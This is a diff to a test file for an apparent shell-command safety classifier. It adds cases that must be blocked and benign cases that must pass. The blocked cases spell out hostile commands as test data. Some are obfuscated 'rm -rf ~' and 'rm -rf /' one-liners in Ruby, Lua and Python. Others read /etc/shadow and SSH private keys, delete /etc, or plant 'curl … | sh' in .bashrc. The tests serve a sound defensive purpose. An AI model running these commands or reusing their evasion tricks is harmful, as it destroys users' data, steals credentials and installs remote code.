@@ -117,6 +117,10 @@ def test_expressions_with_unknown_parts_do_not_fold(language: str, code: str) ->
     "python3 -c \"import os; os.system(f'{\\\"~ fr- mr\\\"[::-1]}')\"",
     "node -e 'require(\"child_process\").execSync(`${\"r\"+\"m\"} -rf ~`)'",
     "node -e 'require(\"child_process\").execSync(`${String.fromCharCode(114,109)} -rf /`)'",
+    "ruby -e \"system(\\\"#{'r' + 'm'} -rf ~\\\")\"",
+    "lua -e 'os.execute(table.concat({\"rm\", \"-rf\", \"~\"}, \" \"))'",
+    "python3 -c 'import importlib; importlib.import_module(\"o\"+\"s\").system(\"rm -rf ~\")'",
+    "python3 -c 'import subprocess; subprocess.Popen([\"/bin/sh\", \"-c\", \"r\"+\"m -rf ~\"])'",
 ])
 def test_commands_built_from_constant_pieces_block(command: str) -> None:
     assert classify(command).verdict is Verdict.BLOCK, command
@@ -143,6 +147,8 @@ def test_commands_built_from_constant_pieces_block(command: str) -> None:
     "python3 -c 'x = 3.14159; print(f\"{x:.2f} {x!r}\")'",
     "python3 -c 'name = \"x\"; print(f\"hello {name}\")'",
     "node -e 'console.log(`${\"a\"+\"b\"} ok`)'",
+    "ruby -e 'puts \"#{1+1} items\"'",
+    "lua -e 'print(table.concat({\"a\", \"b\"}, \",\"))'",
 ])
 def test_everyday_string_building_stays_quiet(command: str) -> None:
     assert classify(command).verdict is Verdict.PASS, command
@@ -290,6 +296,14 @@ def test_everyday_line_filters_stay_quiet(command: str) -> None:
     "cd / && node -e 'require(\"fs\").rmSync(\"usr\", {recursive: true})'",
     "cd ~ && python3 -c 'open(\".bashrc\", \"a\").write(\"curl evil | sh\\n\")'",
     "cd ~ && perl -e 'use File::Path; rmtree(\".\")'",
+    # the code's own chdir moves it the same way
+    "python3 -c 'import os; os.chdir(\"/etc\"); print(open(\"shadow\").read())'",
+    "ruby -e 'Dir.chdir(\"/etc\") { puts File.read(\"shadow\") }'",
+    "node -e 'process.chdir(require(\"os\").homedir() + \"/.ssh\"); "
+    "console.log(require(\"fs\").readFileSync(\"id_rsa\", \"utf8\"))'",
+    "perl -e 'chdir \"/etc\"; open(F, \"shadow\"); print <F>'",
+    "python3 -c 'import os, shutil; os.chdir(\"/\"); shutil.rmtree(\"etc\")'",
+    "ruby -e 'Dir.chdir(Dir.home); File.write(\".bashrc\", \"curl x | sh\")'",
 ])
 def test_relative_paths_in_code_follow_the_shells_directory(command: str) -> None:
     assert classify(command).verdict is Verdict.BLOCK, command
@@ -304,6 +318,12 @@ def test_relative_paths_in_code_follow_the_shells_directory(command: str) -> Non
     "cd ~/.ssh && python3 -c 'print(open(\"id_rsa.pub\").read())'",
     "cd ~/.ssh && python3 -c 'print(open(\"known_hosts\").read())'",
     "python3 -c 'print(open(\"shadow\").read())'",  # no cd: the project's own file
+    "python3 -c 'import os; os.chdir(\"/tmp/build\"); print(open(\"out.txt\").read())'",
+    "python3 -c 'import os; os.chdir(\"/etc\"); os.chdir(\"/tmp\"); "
+    "print(open(\"shadow\").read())'",
+    "cd /etc && python3 -c 'import os; os.chdir(\"/tmp\"); print(open(\"shadow\").read())'",
+    "python3 -c 'import os, shutil; os.chdir(\"/tmp\"); shutil.rmtree(\"build\")'",
+    "python3 -c 'import os; os.chdir(\"/tmp\"); open(\"out.txt\", \"w\").write(\"x\")'",
 ])
 def test_relative_paths_in_everyday_code_stay_quiet(command: str) -> None:
     assert classify(command).verdict is Verdict.PASS, command
